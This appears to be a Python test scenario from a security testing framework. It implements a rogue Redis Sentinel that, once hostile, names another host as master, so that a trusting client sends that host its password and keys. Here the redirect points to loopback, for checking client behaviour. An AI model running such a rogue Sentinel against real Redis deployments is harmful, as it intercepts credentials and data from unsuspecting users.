"""C2 on redis: a Sentinel names the attacker's host as the master. The client logs in there."""

from backwatch.attack.clients.redis import RedisSentinel
from backwatch.attack.protocols.redis import Talk, bulk
from backwatch.attack.protocols.server import LOOPBACK
from backwatch.attack.scenarios import Run
from backwatch.attack.scenarios.redis.moved import RedisMoved
from backwatch.attack.techniques.redis_moved import MovingRedis


class RogueSentinel(MovingRedis):
    """A master and its Sentinel in one. Once hostile, the Sentinel names another master."""

    def answer(self, verb: bytes, command: list[bytes], talk: Talk) -> bytes:
        """Return the master's address, or the master's own reply."""
        if verb != b"SENTINEL":
            return super().answer(verb, command, talk)
        host, port = (LOOPBACK, self.elsewhere.port) if self.hostile else ("localhost", self.port)
        fields = (
            ("name", "shop"), ("ip", host), ("port", f"{port}"), ("flags", "master"), ("num-other-sentinels", "2"),
            ("num-slaves", "0"), ("quorum", "2"),
        )  # fmt: skip
        state = b"".join(bulk(text.encode()) for pair in fields for text in pair)
        if talk.resp3:
            return b"*1\r\n%%%d\r\n" % len(fields) + state
        return b"*1\r\n*%d\r\n" % (2 * len(fields)) + state


class RedisSentinelRogue(RedisMoved):
    """Sentinel and master share one port here. The client accepts any master that the Sentinel names."""

    code = "C2"
    attack = "names, as a Sentinel, another host as the master, which is sent the password and the keys"
    reference = "https://redis.io/docs/latest/operate/oss_and_stack/management/sentinel/; ATT&CK T1557"
    notices = "nothing"
    server = RogueSentinel
    runs = (Run(RedisSentinel),)
